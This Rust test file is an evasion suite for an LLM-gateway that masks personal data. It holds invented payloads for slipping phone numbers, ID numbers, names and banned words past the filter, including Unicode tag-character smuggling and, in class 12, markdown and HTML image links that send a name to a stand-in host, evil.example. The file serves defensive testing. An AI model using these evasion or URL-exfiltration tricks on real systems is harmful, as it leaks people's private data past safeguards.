//! The evasion suite (issue 12): many ways of slipping personal data or a banned word
//! past the gateway, by class, each sent to a Sekimori on 127.0.0.1 in front of a
//! recording upstream. A case *holds* when no secret of it reached the upstream in any
//! form the model could read back (raw body, URL, headers, every JSON string with
//! nested JSON decoded; separators, markup and full-width forms folded away), or, for
//! identity cases, when the request was refused; for restore cases, when the client's
//! answer carries no original inside a URL.
//!
//! A number, word or name split across parts is checked fragment by fragment: no
//! fragment may arrive (each is masked, or the request refused).
//!
//! Every case is expected to hold unless it is marked `open` with the reason; the
//! test prints the table of held / attempted per class (`cargo test --test
//! integration evasion -- --nocapture`) and fails on any case that does not hold and
//! is not open. All values are invented.

use serde_json::{json, Value};
use unicode_normalization::UnicodeNormalization;

use crate::util::{client, start_gateway, FakeUpstream, Reply};

/// The suite's configuration: mask by default, block My Numbers and banned words.
const CONFIG: &str = r#"
[server]
listen = "127.0.0.1:0"
max_body_bytes = 262144

[policy]
default_action = "mask"

[policy.actions]
my_number = "block"
secret_project = "block"

[[detection.word_lists]]
name = "secret_project"
words = ["極秘案件", "Project Falcon"]

[auth]
allow_anonymous = false

[[auth.keys]]
# sk-test-key
sha256 = "0d62f396c1317066f55a96086517047c737087c61eb2bf016b72e6298927b15b"
user = "tanaka"
department = "kosodate"

[[departments]]
name = "kosodate"

[[upstreams]]
name = "fake"
provider = "on_premises"
residency = "on-premises"
base_url = "{UPSTREAM}"
api_key = "upstream-secret"

[[routes]]
api = "openai"
upstream = "fake"

[[routes]]
api = "anthropic"
upstream = "fake"

[[routes]]
api = "gemini"
upstream = "fake"

[[routes]]
api = "azure"
upstream = "fake"
"#;

/// An invented My Number with a valid check digit.
const MY_NUMBER: &str = "123456789018";
/// An invented mobile number, without separators.
const PHONE: &str = "09012345678";

/// What holding means for a case.
enum Expect {
    /// None of these strings reaches the upstream (after folding, see [`fold`]).
    NotForwarded(Vec<String>),
    /// The request is refused (400, 401 or 403) and nothing is forwarded.
    Refused,
    /// The client's answer does not contain this string (an original inside a URL).
    NotInAnswer(String),
}

struct Case {
    class: u8,
    what: String,
    path: String,
    body: String,
    headers: Vec<(&'static str, String)>,
    expect: Expect,
    /// Why this case is known not to hold yet (reported, not asserted).
    open: Option<&'static str>,
}

fn case(class: u8, what: impl Into<String>, path: &str, body: Value, secrets: &[&str]) -> Case {
    Case {
        class,
        what: what.into(),
        path: path.to_string(),
        body: body.to_string(),
        headers: Vec::new(),
        expect: Expect::NotForwarded(secrets.iter().map(|s| s.to_string()).collect()),
        open: None,
    }
}

fn chat(text: &str) -> Value {
    json!({"model": "m", "messages": [{"role": "user", "content": text}]})
}

fn anthropic(content: Value) -> Value {
    json!({"model": "m", "max_tokens": 100, "messages": [{"role": "user", "content": content}]})
}

fn tool_args(args: &str) -> Value {
    json!({"model": "m", "messages": [
        {"role": "user", "content": "登録して"},
        {"role": "assistant", "content": null, "tool_calls": [{"id": "call_1", "type": "function",
            "function": {"name": "register", "arguments": args}}]},
        {"role": "tool", "tool_call_id": "call_1", "content": "ok"}]})
}

/// Python's `json.dumps` escaping of non-ASCII characters.
fn py_escaped(s: &str) -> String {
    let mut out = String::new();
    let mut units = [0u16; 2];
    for c in s.chars() {
        if c.is_ascii() {
            out.push(c);
        } else {
            for u in c.encode_utf16(&mut units) {
                out.push_str(&format!("\\u{u:04x}"));
            }
        }
    }
    out
}

const CHAT: &str = "/v1/chat/completions";
const MESSAGES: &str = "/v1/messages";

/// A fresh variant: class, what, body, secrets, why it is open.
type Fresh<'a> = (u8, &'a str, Value, Vec<&'a str>, Option<&'static str>);

fn cases() -> Vec<Case> {
    let mut c = Vec::new();
    let name = ["森川", "陽菜"];
    let mail = ["hinata.morikawa"];

    // 1. Text under binary-looking keys.
    let list: String = (0..60)
        .map(|i| format!("No.{i} resident contact 090-1234-{:04}\n", 5600 + i))
        .collect();
    c.push(case(1, "anthropic text document (long)", MESSAGES,
        anthropic(json!([{"type": "document", "source": {"type": "text", "media_type": "text/plain", "data": list}},
            {"type": "text", "text": "要約して"}])), &["09012345600", "09012345659"]));
    c.push(case(1, "anthropic text document (short)", MESSAGES,
        anthropic(json!([{"type": "document", "source": {"type": "text", "media_type": "text/plain", "data": "森川陽菜 090-1234-5678"}},
            {"type": "text", "text": "要約して"}])), &[PHONE]));
    for key in ["data", "url", "bytes", "file_id", "image_url", "fileUri"] {
        let what = format!("tool input under `{key}`");
        c.push(case(
            1,
            what,
            MESSAGES,
            anthropic(json!([{"type": "tool_use", "id": "toolu_1", "name": "save",
            "input": {key: format!("{} tel 090-1234-5678 no {MY_NUMBER}", "note ".repeat(450))}}])),
            &[PHONE, MY_NUMBER],
        ));
    }
    c.push(case(1, "metadata url with text", CHAT,
        json!({"model": "m", "messages": [{"role": "user", "content": "確認"}], "metadata": {"url": "hinata.morikawa@example.jp"}}),
        &mail));

    // 2. Values under structural keys.
    for key in [
        "status", "type", "id", "role", "category", "mode", "format", "detail", "object", "call_id",
    ] {
        let what = format!("tool input `{key}`");
        c.push(case(
            2,
            what,
            MESSAGES,
            anthropic(json!([{"type": "tool_use", "id": "toolu_1", "name": "save",
            "input": {key: "hinata.morikawa@example.jp"}}])),
            &mail,
        ));
    }
    c.push(case(
        2,
        "status with My Number",
        MESSAGES,
        anthropic(json!([{"type": "tool_use", "id": "toolu_1", "name": "save",
        "input": {"status": format!("hinata.morikawa@example.jp {MY_NUMBER}")}}])),
        &[MY_NUMBER],
    ));
    c.push(case(
        2,
        "signature",
        MESSAGES,
        anthropic(json!([{"type": "thinking", "thinking": "考える",
        "signature": format!("sig {MY_NUMBER}")}, {"type": "text", "text": "続けて"}])),
        &[MY_NUMBER],
    ));
    c.push(case(2, "encrypted_content", "/v1/responses", json!({"model": "m", "input": [
        {"type": "reasoning", "id": "rs_1", "encrypted_content": "hinata.morikawa@example.jp", "summary": []},
        {"role": "user", "content": "続けて"}]}), &mail));
    c.push(case(
        2,
        "user field",
        CHAT,
        json!({"model": "m", "user": "hinata.morikawa@example.jp",
        "messages": [{"role": "user", "content": "こんにちは"}]}),
        &mail,
    ));

    // 3. Numbers.
    let n: u64 = MY_NUMBER.parse().unwrap();
    c.push(case(
        3,
        "number in metadata",
        CHAT,
        json!({"model": "m", "messages": [{"role": "user", "content": "登録"}],
        "metadata": {"kojin_bangou": n}}),
        &[MY_NUMBER],
    ));
    c.push(case(
        3,
        "number in tool input",
        MESSAGES,
        anthropic(json!([{"type": "tool_use", "id": "toolu_1", "name": "save",
        "input": {"kojin_bangou": n}}])),
        &[MY_NUMBER],
    ));
    c.push(case(
        3,
        "number in an array",
        CHAT,
        json!({"model": "m", "messages": [{"role": "user", "content": "登録"}],
        "metadata": {"values": [1, n, 3]}}),
        &[MY_NUMBER],
    ));
    c.push(case(3, "number in gemini function response", "/v1beta/models/gemini-1.5-flash:generateContent",
        json!({"contents": [{"role": "user", "parts": [{"text": "確認"}, {"functionResponse": {"name": "f", "response": {"no": n}}}]}]}),
        &[MY_NUMBER]));

    // 4. Nested JSON.
    let escaped_name = py_escaped("森川陽菜さん");
    c.push(case(
        4,
        "escaped name in arguments",
        CHAT,
        tool_args(&format!(r#"{{"memo": "{escaped_name}"}}"#)),
        &name,
    ));
    c.push(case(
        4,
        "escaped name as a key",
        CHAT,
        tool_args(&format!(r#"{{"{escaped_name}": 1}}"#)),
        &name,
    ));
    c.push(case(
        4,
        "plain name in arguments",
        CHAT,
        tool_args(r#"{"memo":"森川陽菜さん"}"#),
        &name,
    ));
    c.push(case(
        4,
        "My Number number in arguments",
        CHAT,
        tool_args(&format!(r#"{{"no": {MY_NUMBER}}}"#)),
        &[MY_NUMBER],
    ));
    c.push(case(
        4,
        "phone in nested array",
        CHAT,
        tool_args(r#"{"tels": ["090-1234-5678"]}"#),
        &[PHONE],
    ));
    let inner = serde_json::to_string(&json!({"memo": "森川陽菜さん"})).unwrap();
    let double = serde_json::to_string(&json!({"payload": inner})).unwrap();
    c.push(case(
        4,
        "doubly encoded arguments",
        CHAT,
        tool_args(&double),
        &name,
    ));
    c.push(case(4, "responses function_call arguments", "/v1/responses", json!({"model": "m", "input": [
        {"type": "function_call", "call_id": "c1", "name": "f", "arguments": format!(r#"{{"memo": "{escaped_name}"}}"#)},
        {"type": "function_call_output", "call_id": "c1", "output": r#"{"tel": "090-1234-5678"}"#}]}), &[name[0], name[1], PHONE]));
    c.push(case(4, "tool result holding JSON", MESSAGES, anthropic(json!([{"type": "tool_result", "tool_use_id": "toolu_1",
        "content": format!(r#"{{"result": "{}"}}"#, py_escaped("森川陽菜さんの電話は090-1234-5678"))}])), &[name[0], name[1], PHONE]));

    // 5. Split across parts or messages.
    c.push(case(5, "My Number across two messages", CHAT, json!({"model": "m", "messages": [
        {"role": "user", "content": "個人番号は123456"}, {"role": "user", "content": "789018です"}]}), &["123456", "789018"]));
    c.push(case(
        5,
        "My Number across two parts",
        CHAT,
        json!({"model": "m", "messages": [{"role": "user", "content": [
        {"type": "text", "text": "個人番号は1234 5678"}, {"type": "text", "text": "9018です"}]}]}),
        &["12345678", "9018"],
    ));
    c.push(case(
        5,
        "phone across two parts",
        CHAT,
        json!({"model": "m", "messages": [{"role": "user", "content": [
        {"type": "text", "text": "電話は090-1234"}, {"type": "text", "text": "-5678です"}]}]}),
        &["0901234", "5678"],
    ));
    c.push(case(5, "My Number across anthropic blocks", MESSAGES, anthropic(json!([
        {"type": "text", "text": "番号は1234"}, {"type": "text", "text": "5678"}, {"type": "text", "text": "9018"}])), &["1234", "5678", "9018"]));
    c.push(case(5, "My Number across gemini parts", "/v1beta/models/gemini-1.5-flash:generateContent",
        json!({"contents": [{"role": "user", "parts": [{"text": "個人番号は123456"}, {"text": "789018"}]}]}), &["123456", "789018"]));
    let banned = case(
        5,
        "banned word across two parts",
        CHAT,
        json!({"model": "m", "messages": [{"role": "user", "content": [
        {"type": "text", "text": "資料 Project"}, {"type": "text", "text": "Falcon の件"}]}]}),
        &["project", "falcon"],
    );
    c.push(banned);
    c.push(case(
        5,
        "name across two messages",
        CHAT,
        json!({"model": "m", "messages": [
            {"role": "user", "content": "明日は森川"}, {"role": "user", "content": "陽菜さんと面談"}]}),
        &["森川"],
    ));

    // 6. Separators between digit groups.
    for (what, text) in [
        ("newlines", "1234\n5678\n9018"),
        ("crlf", "1234\r\n5678\r\n9018"),
        ("tabs", "1234\t5678\t9018"),
        ("nul", "1234\u{0}5678\u{0}9018"),
        ("del", "1234\u{7f}5678\u{7f}9018"),
        ("nel", "1234\u{85}5678\u{85}9018"),
        ("slashes", "1234/5678/9018"),
        ("underscores", "1234_5678_9018"),
        ("asterisks", "1234*5678*9018"),
        ("wave dashes", "1234〜5678〜9018"),
        ("dots", "1234.5678.9018"),
        ("と", "1234と5678と9018"),
        ("boxes", "1|2|3|4|5|6|7|8|9|0|1|8"),
    ] {
        let what = format!("My Number with {what}");
        c.push(case(
            6,
            what,
            CHAT,
            chat(&format!("個人番号 {text} を登録")),
            &[MY_NUMBER],
        ));
    }
    for (what, text) in [
        ("newlines", "090\n1234\n5678"),
        ("tabs", "090\t1234\t5678"),
        ("nul", "090\u{0}1234\u{0}5678"),
        ("slashes", "090/1234/5678"),
        ("spaced slashes", "090 / 1234 / 5678"),
        ("underscores", "090_1234_5678"),
        ("asterisks", "090*1234*5678"),
        ("wave dashes", "090〜1234〜5678"),
        ("dots", "090.1234.5678"),
        ("と", "090と1234と5678"),
        ("kanji と", "〇九〇と一二三四と五六七八"),
        ("line break after a dash", "090-1234-\n5678"),
    ] {
        let what = format!("phone with {what}");
        c.push(case(
            6,
            what,
            CHAT,
            chat(&format!("連絡先は {text} です")),
            &[PHONE],
        ));
    }

    // 7. URL and headers.
    for (what, path) in [
        ("gemini model segment", "/v1beta/models/090-1234-5678:generateContent".to_string()),
        ("vertex project segment", "/v1/projects/hinata.morikawa@example.jp/locations/asia-northeast1/publishers/google/models/gemini-1.5-flash:generateContent".to_string()),
        ("azure deployment", "/openai/deployments/09012345678/chat/completions?api-version=2024-10-21".to_string()),
        ("query parameter", format!("{CHAT}?note=hinata.morikawa%40example.jp")),
        ("query with My Number", format!("{CHAT}?no={MY_NUMBER}")),
        ("query with a name", format!("{CHAT}?who=%E6%A3%AE%E5%B7%9D%E9%99%BD%E8%8F%9C%E3%81%95%E3%82%93")),
    ] {
        let gemini = path.contains("generateContent");
        let body = if gemini {
            json!({"contents": [{"role": "user", "parts": [{"text": "こんにちは"}]}]})
        } else {
            chat("こんにちは")
        };
        let mut k = case(7, what, &path, body, &[PHONE, mail[0], MY_NUMBER, name[0]]);
        k.path = path;
        c.push(k);
    }
    for (what, header, value) in [
        ("anthropic-beta", "anthropic-beta", "090-1234-5678"),
        (
            "anthropic-beta list",
            "anthropic-beta",
            "tools-2024-04-04,hinata.morikawa@example.jp",
        ),
        ("anthropic-version", "anthropic-version", "090-1234-5678"),
        ("accept", "accept", "application/json; note=09012345678"),
    ] {
        let mut k = case(
            7,
            what,
            MESSAGES,
            anthropic(json!("こんにちは")),
            &[PHONE, mail[0]],
        );
        k.headers.push((header, value.to_string()));
        c.push(k);
    }

    // 8. Names.
    for (what, text, secrets) in [
        (
            "upper-case surname first",
            "YAMAGUCHI Hinata 様へ連絡",
            &["yamaguchi", "hinata"][..],
        ),
        (
            "all upper-case",
            "申請者 YAMAGUCHI HINATA",
            &["yamaguchi", "hinata"][..],
        ),
        (
            "full-width upper-case",
            "申請者 ＹＡＭＡＧＵＣＨＩ　ＨＩＮＡＴＡ",
            &["yamaguchi", "hinata"][..],
        ),
        ("combining mark", "森川\u{0301}陽菜さんに連絡", &name[..]),
        ("spaced surname", "森 川 陽菜さんに連絡", &["森川"][..]),
        (
            "surname in markup",
            "森<b>川</b>陽菜さんに連絡",
            &["森川"][..],
        ),
        (
            "ruby reading",
            "森川(もりかわ)陽菜さんに連絡",
            &["森川"][..],
        ),
        (
            "html ruby",
            "<ruby>森川<rt>もりかわ</rt></ruby>陽菜さんに連絡",
            &["森川"][..],
        ),
    ] {
        c.push(case(8, what, CHAT, chat(text), secrets));
    }

    // 9. E-mail obfuscations.
    for (what, text) in [
        (
            "at / dot spelled",
            "連絡は hinata.morikawa at example dot jp まで",
        ),
        (
            "bracketed at",
            "連絡は hinata.morikawa [at] example [dot] jp まで",
        ),
        ("(at)", "連絡は hinata.morikawa(at)example.jp まで"),
        ("アット", "連絡は hinata.morikawaアットexample.jp まで"),
        (
            "アット ドット",
            "連絡は hinata.morikawa アット example ドット jp まで",
        ),
        ("full-width @", "連絡は hinata.morikawa＠example．jp まで"),
        (
            "spaces around @",
            "連絡は hinata.morikawa @ example . jp まで",
        ),
        ("%40", "連絡は hinata.morikawa%40example.jp まで"),
        ("&#64;", "連絡は hinata.morikawa&#64;example.jp まで"),
        (
            "quoted local part",
            "連絡は \"hinata.morikawa\"@example.jp まで",
        ),
        ("IDN domain", "連絡は hinata.morikawa@例え.jp まで"),
        (
            "punycode domain",
            "連絡は hinata.morikawa@xn--r8jz45g.jp まで",
        ),
        ("homoglyph domain", "連絡は hinata.morikawa@ехample.jp まで"),
    ] {
        c.push(case(9, what, CHAT, chat(text), &mail));
    }

    // 10. Banned words.
    for (what, text, secret) in [
        ("plain", "極秘案件の資料", "極秘案件"),
        ("ascii space", "極 秘 案 件の資料", "極秘案件"),
        ("ideographic space", "極秘　案件の資料", "極秘案件"),
        ("hyphen", "極-秘-案-件の資料", "極秘案件"),
        ("long vowel mark", "極ー秘ー案件の資料", "極秘案件"),
        (
            "zero-width space",
            "極\u{200b}秘\u{200b}案件の資料",
            "極秘案件",
        ),
        ("markup", "極<b>秘</b>案件の資料", "極秘案件"),
        ("variant kanji", "極祕案件の資料", "極祕案件"),
        ("camel case", "ProjectFalcon の資料", "projectfalcon"),
        ("hyphenated", "Project-Falcon の資料", "projectfalcon"),
        ("underscored", "Project_Falcon の資料", "projectfalcon"),
        ("upper case", "PROJECT FALCON の資料", "projectfalcon"),
    ] {
        c.push(case(10, what, CHAT, chat(text), &[secret]));
    }

    // 11. Unicode tag characters.
    let tags: String = "090-1234-5678"
        .chars()
        .map(|ch| char::from_u32(0xE0000 + ch as u32).unwrap())
        .collect();
    c.push(case(
        11,
        "tag characters in text",
        CHAT,
        chat(&format!("こんにちは{tags}")),
        &["\u{E0030}"],
    ));
    c.push(case(
        11,
        "tag characters in a key",
        CHAT,
        json!({"model": "m", "messages": [{"role": "user", "content": "x"}],
        "metadata": {tags.clone(): 1}}),
        &["\u{E0030}"],
    ));

    // 12. Restore into URLs: the upstream echoes the (masked) prompt.
    for (what, text, leak) in [
        (
            "markdown image",
            "森川陽菜さん ![x](https://evil.example/c?n=森川陽菜)",
            "n=森川陽菜",
        ),
        (
            "markdown link",
            "森川陽菜さん [a](https://evil.example/c?n=森川陽菜)",
            "n=森川陽菜",
        ),
        (
            "bare url",
            "森川陽菜さん https://evil.example/c?n=森川陽菜",
            "n=森川陽菜",
        ),
        (
            "html img src",
            "森川陽菜さん <img src=\"https://evil.example/c?n=森川陽菜\">",
            "n=森川陽菜",
        ),
    ] {
        let mut k = case(12, what, CHAT, chat(text), &[]);
        k.expect = Expect::NotInAnswer(leak.to_string());
        c.push(k);
    }

    // 13. Conflicting credentials.
    for (what, headers) in [
        (
            "two different keys",
            vec![
                ("authorization", "Bearer sk-test-key"),
                ("x-api-key", "sk-other-key"),
            ],
        ),
        (
            "two authorization headers",
            vec![
                ("authorization", "Bearer sk-test-key"),
                ("authorization", "Bearer sk-other-key"),
            ],
        ),
        (
            "api-key and x-api-key differ",
            vec![("api-key", "sk-other-key"), ("x-api-key", "sk-test-key")],
        ),
    ] {
        let mut k = case(13, what, CHAT, chat("こんにちは"), &[]);
        k.expect = Expect::Refused;
        k.headers = headers
            .into_iter()
            .map(|(h, v)| (h, v.to_string()))
            .collect();
        c.push(k);
    }

    // 14. Token ids.
    for (what, input) in [
        ("flat", json!([1234, 5678])),
        ("nested", json!([[1234, 5678], [91]])),
    ] {
        let mut k = case(
            14,
            what,
            "/v1/embeddings",
            json!({"model": "m", "input": input}),
            &[],
        );
        k.expect = Expect::Refused;
        c.push(k);
    }

    // Fresh variants, written after the fixes and not tuned to them: what a tester
    // tries next. Those that do not hold are marked open with the reason.
    let fresh: Vec<Fresh> = vec![
        (
            2,
            "e-mail as the model name",
            json!({"model": "hinata.morikawa@example.jp",
            "messages": [{"role": "user", "content": "こんにちは"}]}),
            mail.to_vec(),
            None,
        ),
        (
            2,
            "name in a tool's name",
            json!({"model": "m", "messages": [{"role": "user", "content": "x"}],
            "tools": [{"type": "function", "function": {"name": "森川陽菜", "parameters": {"type": "object"}}}]}),
            vec!["森川"],
            None,
        ),
        (
            4,
            "pretty-printed escaped arguments",
            tool_args(&format!(
                "{{\n  \"memo\": \"{}\",\n  \"no\": {MY_NUMBER}\n}}",
                py_escaped("森川陽菜さん")
            )),
            vec![name[0], MY_NUMBER],
            None,
        ),
        (
            4,
            "arguments with escaped slashes",
            tool_args(r#"{"url": "https:\/\/example.jp\/?tel=090-1234-5678"}"#),
            vec![PHONE],
            None,
        ),
        (
            5,
            "phone across three messages",
            json!({"model": "m", "messages": [
            {"role": "user", "content": "携帯は090"}, {"role": "user", "content": "-1234"},
            {"role": "user", "content": "-5678"}]}),
            vec!["090", "1234", "5678"],
            None,
        ),
        (
            5,
            "My Number across a tool result and a message",
            json!({"model": "m", "messages": [
            {"role": "tool", "tool_call_id": "c1", "content": "番号: 1234 5678"},
            {"role": "user", "content": "9018 を登録"}]}),
            vec!["12345678", "9018"],
            None,
        ),
        (
            6,
            "My Number with ideographic spaces",
            chat("個人番号　1234　5678　9018"),
            vec![MY_NUMBER],
            None,
        ),
        (
            6,
            "My Number with middle dots",
            chat("個人番号 1234・5678・9018"),
            vec![MY_NUMBER],
            None,
        ),
        (
            6,
            "full-width phone with long vowel marks",
            chat("電話 ０９０ー１２３４ー５６７８"),
            vec![PHONE],
            None,
        ),
        (
            6,
            "phone in parentheses",
            chat("電話 (090)1234-5678"),
            vec![PHONE],
            None,
        ),
        (
            6,
            "phone in katakana digit words",
            chat("電話はゼロキューゼロ イチニーサンヨン ゴーロクナナハチ"),
            vec!["ゼロキューゼロ"],
            None,
        ),
        (
            8,
            "initial capitals, given name first",
            chat("担当の Hinata Morikawa さんに連絡"),
            vec!["morikawa"],
            None,
        ),
        (
            8,
            "romaji with an honorific suffix",
            chat("Please tell MORIKAWA-san"),
            vec!["morikawa"],
            Some("a lone romaji surname with -san is not found"),
        ),
        (
            9,
            "★ for @",
            chat("連絡は hinata.morikawa★example.jp（★を@に）"),
            mail.to_vec(),
            Some("a symbol standing for @ with an instruction is not read"),
        ),
        (
            9,
            "アットマーク in parentheses",
            chat("連絡は hinata.morikawa（アットマーク）example.jp"),
            mail.to_vec(),
            None,
        ),
        (
            10,
            "banned word in katakana reading",
            chat("ゴクヒアンケンの資料"),
            vec!["ゴクヒアンケン"],
            Some("a listed word written in its reading is not matched"),
        ),
        (
            10,
            "banned word with dots",
            chat("極.秘.案.件の資料"),
            vec!["極秘案件"],
            None,
        ),
        (
            10,
            "banned word lower case glued",
            chat("projectfalconの資料"),
            vec!["projectfalcon"],
            None,
        ),
    ];
    for (class, what, body, secrets, open) in fresh {
        let mut k = case(class, format!("{what} (fresh)"), CHAT, body, &secrets);
        k.open = open;
        c.push(k);
    }
    c
}

/// Folds a text the way a reader would: NFKC (full-width forms), lower case, and
/// without separators, controls, markup tags or percent escapes, so that a secret
/// found here is one the model can read back.
fn fold(s: &str) -> String {
    let decoded = percent_decode(s);
    let mut out = String::with_capacity(decoded.len());
    let mut in_tag = false;
    for ch in decoded.nfkc().flat_map(char::to_lowercase) {
        match ch {
            '<' => in_tag = true,
            '>' if in_tag => in_tag = false,
            _ if in_tag => {}
            c if c.is_whitespace() || c.is_control() => {}
            '\u{200b}' | '\u{2029}' | '-' | '/' | '_' | '*' | '.' | '|' | '〜' | '~' | 'ー'
            | 'と' => {}
            c => out.push(c),
        }
    }
    out
}

fn percent_decode(s: &str) -> String {
    let b = s.as_bytes();
    let mut out = Vec::with_capacity(b.len());
    let mut i = 0;
    while i < b.len() {
        let hex = b
            .get(i + 1..i + 3)
            .and_then(|h| std::str::from_utf8(h).ok());
        if let (b'%', Some(Ok(v))) = (b[i], hex.map(|h| u8::from_str_radix(h, 16))) {
            out.push(v);
            i += 3;
            continue;
        }
        out.push(b[i]);
        i += 1;
    }
    String::from_utf8_lossy(&out).into_owned()
}

/// Every string of a JSON value, nested JSON in strings decoded (bounded depth).
fn strings(v: &Value, depth: usize, out: &mut Vec<String>) {
    match v {
        Value::String(s) => {
            out.push(s.clone());
            if depth < 6 {
                if let Ok(inner) = serde_json::from_str::<Value>(s) {
                    strings(&inner, depth + 1, out);
                }
            }
        }
        Value::Number(n) => out.push(n.to_string()),
        Value::Array(a) => a.iter().for_each(|x| strings(x, depth, out)),
        Value::Object(m) => {
            for (k, x) in m {
                out.push(k.clone());
                strings(x, depth, out);
            }
        }
        _ => {}
    }
}

#[tokio::test]
async fn evasion_suite() {
    let up = FakeUpstream::start(Reply::EchoChat).await;
    let gw = start_gateway(CONFIG, &up.url()).await;
    let cases = cases();
    let mut table: std::collections::BTreeMap<u8, (usize, usize)> = Default::default();
    let mut failures = Vec::new();
    let mut open_now_held = Vec::new();
    for k in &cases {
        let before = up.received().len();
        let mut req = client()
            .post(format!("http://{}{}", gw.addr, k.path))
            .header("content-type", "application/json")
            .body(k.body.clone());
        let custom_auth = k
            .headers
            .iter()
            .any(|(h, _)| h.contains("key") || *h == "authorization");
        if !custom_auth {
            req = req.header("authorization", "Bearer sk-test-key");
        }
        for (h, v) in &k.headers {
            req = req.header(*h, v.as_str());
        }
        let resp = tokio::time::timeout(std::time::Duration::from_secs(20), req.send())
            .await
            .expect("answered in time")
            .expect("answered");
        let status = resp.status().as_u16();
        let answer = resp.text().await.unwrap_or_default();
        let got = &up.received()[before..];
        let held = match &k.expect {
            Expect::Refused => (400..=403).contains(&status) && got.is_empty(),
            Expect::NotInAnswer(leak) => !fold(&answer).contains(&fold(leak)),
            Expect::NotForwarded(secrets) => {
                let mut texts = Vec::new();
                for r in got {
                    texts.push(r.uri.clone());
                    texts.push(r.body.clone());
                    texts.extend(r.headers.iter().map(|(_, v)| v.clone()));
                    if let Ok(v) = serde_json::from_str::<Value>(&r.body) {
                        strings(&v, 0, &mut texts);
                    }
                }
                let folded: Vec<String> = texts.iter().map(|t| fold(t)).collect();
                !secrets
                    .iter()
                    .any(|s| folded.iter().any(|t| t.contains(&fold(s))))
            }
        };
        let e = table.entry(k.class).or_default();
        e.1 += 1;
        if held {
            e.0 += 1;
        }
        match (held, k.open) {
            (false, None) => {
                failures.push(format!("class {} {}: status {status}", k.class, k.what))
            }
            (true, Some(_)) => open_now_held.push(format!("class {} {}", k.class, k.what)),
            _ => {}
        }
        if !held {
            eprintln!(
                "not held: class {} {} (status {status}){}",
                k.class,
                k.what,
                k.open.map(|o| format!(" — open: {o}")).unwrap_or_default()
            );
        }
    }
    let (mut h, mut n) = (0, 0);
    eprintln!("evasion suite: held / attempted per class");
    for (class, (held, all)) in &table {
        eprintln!("  class {class:>2}: {held:>3} / {all:<3}");
        h += held;
        n += all;
    }
    eprintln!("  total   : {h:>3} / {n}");
    if !open_now_held.is_empty() {
        eprintln!("open cases that now hold (remove `open`): {open_now_held:?}");
    }
    assert!(failures.is_empty(), "cases that do not hold: {failures:#?}");
}
